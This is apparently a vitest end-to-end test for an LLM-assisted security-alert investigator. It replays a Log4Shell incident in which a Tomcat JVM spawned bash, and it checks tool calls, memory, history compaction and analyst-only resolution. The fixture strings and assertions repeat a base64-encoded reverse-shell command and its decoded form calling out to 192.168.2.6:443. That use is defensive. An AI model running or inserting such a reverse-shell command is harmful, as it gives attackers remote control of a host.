import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createHashingEmbedder, createSessionStore, openMemory } from 'kioku/store';
import { type LoopbackReply, postgresCluster, startLoopbackProvider } from 'kioku/test';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { securityLogsSource } from '../logs/__fixtures__/log4shell-database.js';
import { loadSecurityLogs } from '../logs/index.js';
import { openInvestigatorStore } from '../store/index.js';
import { runInvestigator } from './run-investigator.js';

// The whole investigation through the CLI, one process per step as an analyst would run it, against a
// scripted model on the loopback OpenAI-protocol server (each step gets its own server and script).

const alert = {
  rule: 'Java process spawned a shell',
  severity: 'critical',
  Computer: 'UBUNTU5',
  ParentImage: '/usr/lib/jvm/java-1.8.0-openjdk-amd64/bin/java',
  Image: '/usr/bin/bash',
  TimeGenerated: '2022-05-11T18:10:22Z',
};
const decodeSql =
  "select Computer, try(decode(from_base64(regexp_extract(SyslogMessage, '\\{echo,([A-Za-z0-9+/=]+)\\}', 1)))) as decoded_command from ubuntu5_sysmon where SyslogMessage like '%{echo,%'";
const learned =
  'ubuntu5_sysmon.SyslogMessage holds the Sysmon XML; decode {echo,<base64>} payloads with from_base64.';
const firstAnswer =
  'The JVM ran bash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}, which decodes to bash -i >& /dev/tcp/192.168.2.6/443 0>&1: a reverse shell to 192.168.2.6 on port 443, as the tomcat user.';
const padding = ` Evidence row: java → bash → base64 -d → bash -i on UBUNTU5 at 2022-05-11T18:10:22Z.`.repeat(
  30,
);

interface Step {
  args: string[];
  replies: LoopbackReply[];
  input?: string;
}

function investigation(target: {
  name: string;
  skip?: string | undefined;
  location: () => string;
  setup: () => Promise<void>;
  teardown: () => Promise<void>;
}) {
  describe.skipIf(target.skip !== undefined)(`an investigation end to end (${target.name})`, () => {
    const directory = mkdtempSync(join(tmpdir(), 'investigator-e2e-'));
    const logs = join(directory, 'logs.duckdb');
    beforeAll(async () => {
      await target.setup();
      await loadSecurityLogs({ source: securityLogsSource, file: logs, only: ['log4shell'] });
    }, 300_000);
    afterAll(async () => {
      await target.teardown();
      rmSync(directory, { recursive: true, force: true });
    });

    async function step({ args, replies, input }: Step) {
      const server = await startLoopbackProvider({ replies });
      try {
        const run = await runInvestigator(
          [...args, '--store', target.location(), ...(args[0] === 'chat' ? ['--logs', logs] : [])],
          {
            env: {
              INVESTIGATOR_MODEL: 'openai-compatible:loopback',
              OPENAI_COMPATIBLE_BASE_URL: server.baseUrl,
            },
            ...(input === undefined ? {} : { input }),
          },
        );
        return { ...run, requests: server.requests };
      } finally {
        await server.close();
      }
    }

    it('ingests, chats, resumes in a new process, compacts keeping the IOCs, and only the analyst resolves', async () => {
      const file = join(directory, 'alert.json');
      writeFileSync(file, JSON.stringify(alert));
      const ingested = await runInvestigator([
        'new',
        file,
        '--schema',
        'syslog',
        '--json',
        '--store',
        target.location(),
      ]);
      expect(ingested.stderr).toBe('');
      expect(ingested.status).toBe(0);
      const id = (JSON.parse(ingested.stdout) as { id: string }).id;

      // 1. The first question: the chat asks the log sub-agent, which runs SQL on DuckDB and learns; the
      //    sub-agent's steps and the answer stream as they happen, then the cost.
      const first = await step({
        args: ['chat', id, '--message', 'What did the attacker run on UBUNTU5?'],
        replies: [
          {
            toolCalls: [
              {
                id: 'c1',
                name: 'logs_run',
                arguments: { query: 'On UBUNTU5, which command did the java process start, decoded?' },
              },
            ],
          },
          { toolCalls: [{ id: 'q1', name: 'query', arguments: { sql: decodeSql } }] },
          {
            text: 'java started bash -c {echo,…}|{base64,-d}|{bash,-i}; decoded: bash -i >& /dev/tcp/192.168.2.6/443 0>&1',
          },
          { text: JSON.stringify({ claims: [learned], helpfulMemoryIds: [], harmfulMemoryIds: [] }) },
          { text: firstAnswer + padding },
        ],
      });
      expect(first.stderr).toContain('investigator: this answer');
      expect(first.status).toBe(0);
      expect(first.stdout).toContain('bash -i >& /dev/tcp/192.168.2.6/443 0>&1');
      expect(first.stderr).toContain('→ logs_run');
      expect(first.stderr).toMatch(/ {2}logs_run · query .*\(\d+ ms\)/);
      expect(first.stderr).toContain('logs_run memory: 1 new');
      expect(JSON.stringify(first.requests[0]?.body?.messages)).toContain('ubuntu5_sysmon');
      // The row DuckDB returned reached the sub-agent's model as data.
      expect(JSON.stringify(first.requests[2]?.body?.messages)).toMatch(
        /untrusted-data[\s\S]*bash -i >& \/dev\/tcp\/192.168.2.6\/443 0>&1/,
      );
      // Its answer reached the chat's model as data too.
      expect(JSON.stringify(first.requests[4]?.body?.messages)).toContain(
        '<untrusted-data source=\\"logs_run output\\">',
      );

      // 2. A new process resumes the conversation with the earlier history, and the log sub-agent
      //    recalls what it learned into its prompt.
      const second = await step({
        args: ['chat', id, '--message', 'Which user ran it?'],
        replies: [
          {
            toolCalls: [
              {
                id: 'c2',
                name: 'logs_run',
                arguments: {
                  query: 'On UBUNTU5, which user ran the command the java process started, decoded?',
                },
              },
            ],
          },
          { text: 'The tomcat user.' },
          { text: JSON.stringify({ claims: [], helpfulMemoryIds: [], harmfulMemoryIds: [] }) },
          { text: `The tomcat user (uid 1001).${padding}` },
        ],
      });
      expect(second.status).toBe(0);
      expect(second.stderr).toMatch(/resuming the conversation over alert .* \(5 messages kept\)/);
      expect(JSON.stringify(second.requests[1]?.body?.messages)).toContain(learned.slice(0, 40));
      const resumed = JSON.stringify(second.requests[0]?.body?.messages);
      expect(resumed).toContain('What did the attacker run on UBUNTU5?');
      expect(resumed).toContain('/dev/tcp/192.168.2.6/443');

      // 3. The window fills (a small one): kioku summarizes with the security prompt before the call. The
      //    scripted summary drops the IOCs; kioku puts them back, so the model still sees them.
      const third = await step({
        args: ['chat', id, '--context-window', '3000', '--json', '--message', 'Summarize what we know.'],
        replies: [
          { text: '## Findings\nA reverse shell was opened from the Tomcat JVM on UBUNTU5.' },
          { text: 'A reverse shell from Tomcat on UBUNTU5; isolate the host.' },
        ],
      });
      expect(third.status).toBe(0);
      expect(third.stderr).toMatch(/\[kioku\] history compacted \(threshold\)/);
      const summaryRequest = JSON.stringify(third.requests[0]?.body?.messages);
      expect(summaryRequest).toContain('Attack intelligence');
      const afterSummary = JSON.stringify(third.requests[1]?.body?.messages);
      expect(afterSummary).toContain('Previous Conversation Summary');
      expect(afterSummary).toContain('192.168.2.6');
      // The first answer is replaced by the summary (its encoded command is gone), its IOC kept.
      expect(afterSummary).not.toContain('YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=');
      const report = JSON.parse(third.stdout) as { text: string; conversation: { turns: number } };
      expect(report.text).toContain('isolate the host');
      expect(report.conversation.turns).toBe(3);

      // The stored conversation keeps the original history whole, with the summary as a view over it.
      const store = await openInvestigatorStore({ location: target.location() });
      try {
        const exported = await createSessionStore(store).export(`id:alert-${id}`);
        expect(exported.messages.map((message) => message.role)).toEqual([
          'system',
          'user',
          'assistant',
          'tool',
          'assistant',
          'user',
          'assistant',
          'tool',
          'assistant',
          'user',
          'assistant',
        ]);
        // What the log sub-agent learned is in the store's memory.
        const memory = await openMemory({
          store,
          embedder: createHashingEmbedder(),
          namespace: 'logs_run',
        });
        expect((await memory.list()).map((record) => record.claim)).toEqual([learned]);
        expect(exported.views).toHaveLength(1);
        expect(JSON.stringify(exported.messages)).toContain(padding.trim());
      } finally {
        await store.close();
      }

      // 4. Only the analyst resolves.
      const resolved = await runInvestigator([
        'resolve',
        id,
        '--conclusion',
        'true_positive',
        '--reason',
        'Log4Shell reverse shell to 192.168.2.6:443',
        '--by',
        'analyst@example.org',
        '--json',
        '--store',
        target.location(),
      ]);
      expect(resolved.status).toBe(0);
      expect(JSON.parse(resolved.stdout)).toMatchObject({
        status: 'resolved',
        resolution: { by: 'analyst@example.org' },
      });
    }, 600_000);
  });
}

const pglite = mkdtempSync(join(tmpdir(), 'investigator-e2e-store-'));
investigation({
  name: 'PGlite directory',
  location: () => join(pglite, 'store'),
  setup: async () => {},
  teardown: async () => rmSync(pglite, { recursive: true, force: true }),
});

// PostgreSQL over the wire: a real server (Debian's, with pgvector); skipped, saying why, only outside CI.
const postgres = postgresCluster();
investigation({
  name: 'PostgreSQL over the wire',
  skip: postgres.skip,
  location: postgres.url,
  setup: postgres.setup,
  teardown: postgres.teardown,
});
